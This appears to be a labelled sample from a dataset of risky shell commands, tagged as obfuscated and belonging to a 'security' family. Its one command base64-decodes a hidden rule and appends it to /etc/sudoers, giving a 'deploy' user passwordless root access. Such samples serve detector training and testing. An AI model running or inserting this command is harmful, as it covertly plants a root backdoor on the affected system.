# description: Appends a base64-decoded NOPASSWD rule to /etc/sudoers.
# family: security
# obfuscated: yes
echo ZGVwbG95IEFMTD0oQUxMKSBOT1BBU1NXRDogQUxM | base64 -d >> /etc/sudoers
